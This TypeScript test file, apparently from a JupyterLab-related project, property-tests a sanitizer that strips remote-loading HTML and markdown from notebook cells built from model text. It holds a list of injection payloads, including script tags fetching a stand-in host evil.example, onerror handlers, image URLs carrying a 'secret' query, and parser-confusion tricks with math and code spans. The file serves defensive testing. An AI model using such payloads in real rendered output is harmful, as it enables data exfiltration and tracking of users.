import fc from 'fast-check';

if (process.env.SAFE_MARKDOWN_SEED) {
  fc.configureGlobal({ seed: Number(process.env.SAFE_MARKDOWN_SEED) });
}

import { Marked } from 'marked';
import { removeMath, replaceMath } from '@jupyterlab/rendermime/lib/latex';

import { answerSource, questionSource, thoughtSource, unfinishedThoughtSource } from '../../src/episode/notebookCells';
import { neutralizeRemoteContent, safeMarkdown, untrusted } from '../../src/episode/safeMarkdown';

// JupyterLab's math extraction reads `navigator`, which Node 20 lacks.
(globalThis as { navigator?: object }).navigator ??= { appName: 'node' };

const marked = new Marked({ gfm: true, async: false });

/** A markdown cell's HTML as JupyterLab renders it before sanitizing: math taken out, `marked`, math put back. */
function render(markdown: string): string {
  const { text, math } = removeMath(markdown);
  return replaceMath(marked.parse(text) as string, math);
}

/** Elements markdown itself writes, and the cell builders' `<details>`. */
const MARKDOWN_ELEMENTS = new Set([
  'p', 'em', 'strong', 'code', 'pre', 'a', 'ul', 'ol', 'li', 'blockquote', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6',
  'hr', 'br', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'del', 'input', 'details', 'summary'
]);

/** The attributes markdown itself writes (an `<a href>` waits for a click); any other one was injected. */
const MARKDOWN_ATTRIBUTES: Record<string, string[]> = {
  a: ['href', 'title'],
  input: ['type', 'checked', 'disabled'],
  code: ['class'],
  th: ['align'],
  td: ['align'],
  ol: ['start']
};

/** The start tags of `html` with their attribute names and values, read as the HTML tokenizer reads them. */
function startTags(html: string): { tag: string; element: string; attributes: [string, string][] }[] {
  const tags = [];
  const space = /[\t\n\f\r ]/;
  for (const match of html.matchAll(/<([A-Za-z][^\t\n\f\r />]*)/g)) {
    let i = match.index! + match[0].length;
    const attributes: [string, string][] = [];
    while (i < html.length && html[i] !== '>') {
      if (space.test(html[i]) || html[i] === '/') {
        i++;
        continue;
      }
      let name = html[i++];
      while (i < html.length && !space.test(html[i]) && !'/>='.includes(html[i])) {
        name += html[i++];
      }
      while (space.test(html[i] ?? '')) {
        i++;
      }
      let value = '';
      if (html[i] === '=') {
        i++;
        while (space.test(html[i] ?? '')) {
          i++;
        }
        const quote = html[i] === '"' || html[i] === "'" ? html[i++] : null;
        while (i < html.length && (quote ? html[i] !== quote : !space.test(html[i]) && html[i] !== '>')) {
          value += html[i++];
        }
        if (quote) {
          i++;
        }
      }
      attributes.push([name.toLowerCase(), value]);
    }
    tags.push({ tag: html.slice(match.index!, i + 1), element: match[1].toLowerCase(), attributes });
  }
  return tags;
}

/** Elements of the rendered HTML that were not written by markdown, or carry an attribute markdown does not write. */
function unsafeElements(html: string): string[] {
  return startTags(html)
    .filter(({ element, attributes }) => {
      const injected = attributes.some(([n]) => !(MARKDOWN_ATTRIBUTES[element] ?? []).includes(n));
      const badInput = element === 'input' && !attributes.some(([n, v]) => n === 'type' && v === 'checkbox');
      return !MARKDOWN_ELEMENTS.has(element) || badInput || injected;
    })
    .map(t => t.tag);
}

/** Every cell builder that takes model text, each given `text` in every place it takes it. */
const BUILDERS: [string, (text: string) => string][] = [
  ['alone', neutralizeRemoteContent],
  ['question', questionSource],
  ['thought', text => thoughtSource(0, text, true)],
  ['streaming thought', text => thoughtSource(1, text, false)],
  ['unfinished thought', text => unfinishedThoughtSource(2, text)],
  ['answer', text => answerSource(text, '')],
  ['answer with all parts', text => answerSource(text, text, [text], [{ name: 'round', from: text, to: text, why: text }])]
];

const PAYLOADS: [string, string][] = [
  ['a code span inside an attribute', '<img alt="`x`" src=http://evil.example/a.png>'],
  ['a backtick in the URL', '<img src="http://evil.example/`x`">'],
  ['a double backtick in an attribute', "<img src=http://evil.example/a alt='``'>"],
  ['an HTML tag opened before a code span', '<a title="`"><img src=http://evil.example/a>`</a>'],
  ['an event handler', '<img src=x onerror="fetch(\'http://evil.example\')">'],
  ['upper case', 'x <IMG SRC="http://evil.example/a">'],
  ['a tag over lines', '<img\n  src="//evil.example/a"\n  alt="chart">'],
  ['a tag closed on the next line', 'total <img src=http://evil.example/a\nalt=x>'],
  ['a raw HTML block', '<div>\n<img src="http://evil.example/b">\n</div>'],
  ['a comment before a tag', '<!-- note --><img src=http://evil.example/c>'],
  ['an iframe', '<iframe src="https://evil.example"></iframe>'],
  ['a video poster', '<video poster="https://evil.example/p.png"></video>'],
  ['a background in a style', '<div style="background:url(https://evil.example/b)">hi</div>'],
  ['an SVG image', '<svg><image href="https://evil.example/s.svg"/></svg>'],
  ['a stylesheet', '<link rel="stylesheet" href="https://evil.example/s.css">'],
  ['a picture source', '<picture><source srcset="https://evil.example/a.webp"></picture>'],
  ['a script', "<script>fetch('http://evil.example')</script>"],
  ['an object', '<object data="http://evil.example/o"></object>'],
  ['an image input', '<input type=image src=http://evil.example/i>'],
  ['an image in a table cell', '| a |\n|---|\n| <img src=http://evil.example/t> |'],
  ['a markdown image', '![](http://evil.example/c.png)'],
  ['a markdown image with a title', 'East had the most ![chart](https://evil.example/c.png "t").'],
  ['an autolink as image source', '![x](<http://evil.example/a b.png>)'],
  ['a reference image', 'See ![chart][1]\n\n[1]: https://evil.example/c.png'],
  ['a shortcut reference image', '![logo]\n\n[logo]: http://evil.example/l.png'],
  ['an image inside a link', '[![x](http://evil.example/i.png)](http://example.org)'],
  ['an escaped backslash before an image', '\\\\![a](http://evil.example/i)'],
  ['a backslash in a code span before a tag', '`\\`<img src=http://evil.example/b>'],
  ['math that takes a backtick away', '$`$\n<img src=http://evil.example/m>`'],
  ['an indented tag (code only at the start of a line)', '    <img src=http://evil.example/i>'],
  ['an unclosed fence (code only at the start of a line)', '```\n<img src=http://evil.example/f>'],
  ['a fence in a blockquote', '> ```\n> <img src=http://evil.example/q>'],
  ['a fence in a list item', '- ```\n  <img src=http://evil.example/l>'],
  // GFM autolinked the bare URL into an <a href>, and the text after `\"` landed in its attributes.
  ['a bare URL then math and an escaped quote', '<img src=http://evil.example/a>$\\"'],
  ['math with a quoted code span in a bare URL', 'http://evil.example/$ `"` onmouseover=x $'],
  ['math with a quoted code span in a link', '[a](http://evil.example/$ `"` onmouseover=x $)'],
  ['display math in a URL', 'http://evil.example/\\\\( `"` onmouseover=x \\\\)'],
  ['a backslash inside a bare URL, before a tag', '<img src=http://evil.example/a>\\<img src=http://evil.example/a>'],
  ['an environment in a URL', 'http://evil.example/\\begin{x} `"` onmouseover=x \\end{x}']
];

describe('the payloads render no remote element', () => {
  it.each(PAYLOADS)('raw, %s renders one (the check can fail)', (name, payload) => {
    // The indented and fenced payloads are code standing alone: they attack through a builder's context.
    const rendered = [payload, `**Answer.** ${payload}`].map(render);
    expect(rendered.some(html => unsafeElements(html).length > 0)).toBe(true);
  });

  describe.each(BUILDERS)('%s', (_, build) => {
    it.each(PAYLOADS)('%s', (_, payload) => {
      const markdown = build(payload);
      expect(unsafeElements(render(markdown))).toEqual([]);
      // The remote URL stays readable as text.
      expect(markdown).toMatch(/evil\.example/);
    });
  });
});

describe('neutralizeRemoteContent', () => {
  it('turns raw HTML into visible text, changing only its brackets and quotes', () => {
    const markdown = 'Total: 5 <img src="https://evil.example/t.png?q=secret"> and <b>bold</b>';
    const safe = neutralizeRemoteContent(markdown);
    expect(safe).toBe('Total: 5 &lt;img src=&quot;https://evil.example/t.png?q=secret&quot;> and &lt;b>bold&lt;/b>');
    expect(render(safe)).toContain('&lt;img src=');
  });

  it('escapes a markdown image as a link', () => {
    expect(neutralizeRemoteContent('a ![chart](https://example.org/c.png)')).toBe('a \\![chart](https://example.org/c.png)');
    expect(render('a \\![chart](https://example.org/c.png)')).toBe('<p>a !<a href="https://example.org/c.png">chart</a></p>\n');
  });

  it('keeps markdown formatting, links and autolinks that are not HTML', () => {
    const markdown = '**East**: 25,864.65 _total_\n\n- [source](https://example.org)\n- https://example.org/x\n\n| a | b |\n|---|---|\n| 1 | 2 |';
    expect(neutralizeRemoteContent(markdown)).toBe(markdown);
  });

  it('leaves code spans and fenced blocks as written', () => {
    const markdown = "Use `<img src='x'>` or:\n\n```html\n<img src=\"https://example.org/a.png\">\n![a](b)\n```\n\nthen <img src=\"https://evil.example\">";
    const safe = neutralizeRemoteContent(markdown);
    expect(safe).toContain("`<img src='x'>`");
    expect(safe).toContain('```html\n<img src="https://example.org/a.png">\n![a](b)\n```');
    expect(safe.endsWith('then &lt;img src=&quot;https://evil.example&quot;>')).toBe(true);
  });

  it('keeps comparisons in code and escapes them in prose', () => {
    expect(neutralizeRemoteContent('`df[df.x < 3]` gives rows where x < 3')).toBe('`df[df.x < 3]` gives rows where x &lt; 3');
  });

  it('leaves a backslash-escaped bracket as it was', () => {
    expect(neutralizeRemoteContent('a \\<b> and \\![c](d)')).toBe('a \\<b> and \\![c](d)');
  });

  it('does not trust code that holds a math delimiter', () => {
    expect(neutralizeRemoteContent('`$x <img>`')).toBe('`\\$x &lt;img>`');
  });

  it('escapes text that is code alone but not after the cell builder\'s words', () => {
    expect(thoughtSource(0, '    <img src=x>', true)).toBe('**Step 1** ·     &lt;img src=x>');
    expect(questionSource('```\n<img src=x>\n```')).toBe('**Question.** ```\n<img src=x>\n```');
  });

  it('keeps the answer cell\'s own details block', () => {
    const cell = answerSource('42', 'It sums <img src=x>.');
    expect(cell).toBe('**Answer.** 42\n\n<details><summary>Reasoning</summary>\n\nIt sums &lt;img src=x>.\n\n</details>');
    expect(render(cell)).toContain('<details><summary>Reasoning</summary>');
  });

  it('never lets the private-use characters it borrows collide with the text', () => {
    const text = '\uE000 <img src=x> \uE001 `<b>`';
    expect(neutralizeRemoteContent(text)).toBe('\uE000 &lt;img src=x> \uE001 `<b>`');
  });

  it('escapes every bracket of untrusted text whatever the builder wrote around it', () => {
    expect(safeMarkdown(['<details>\n\n', untrusted('<img src=x>'), '\n\n</details>'])).toBe('<details>\n\n&lt;img src=x>\n\n</details>');
  });
});

describe('mixtures of tags and code spans', () => {
  const fragment = fc.constantFrom(
    '<img src=http://evil.example/a>', '<img alt="`x`" src=http://evil.example/b>', "<img src='http://evil.example/`c`'>",
    '<a title="`">', '</a>', '<div>', '<iframe src=//evil.example>', '<', '>', '"', "'", '`', '``', '```', '~~~', '$', '$$',
    '\\', '\\\\', '!', '[', ']', '(', ')', '![x](http://evil.example/i)', '![r]', '[r]: http://evil.example/r',
    '<http://evil.example/l>', '\n', '\n\n', '    ', '  ', '> ', '- ', '1. ', '|', '*', '_', 'text', ' ', '&lt;', '<!--', '-->',
    'http://evil.example/u', 'www.evil.example', ' onmouseover=x ', '\\begin{x}', '\\end{x}', '{', '}', '\\\\(', '\\\\)', '\\\\['
  );
  const mixture = fc.array(fragment, { maxLength: 24 }).map(parts => parts.join(''));

  it.each(BUILDERS)('render no remote element through %s', (_, build) => {
    fc.assert(
      fc.property(mixture, text => {
        expect(unsafeElements(render(build(text)))).toEqual([]);
      }),
      { numRuns: 400 }
    );
  });

  it('keep code as written when it holds no math', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom('<img src=x>', '<', 'a', ' ', '![a](b)'), { minLength: 1, maxLength: 8 }), parts => {
        const code = parts.join('').replace(/`/g, '');
        expect(neutralizeRemoteContent(`x \`${code}\` y`)).toBe(`x \`${code}\` y`);
      })
    );
  });
});
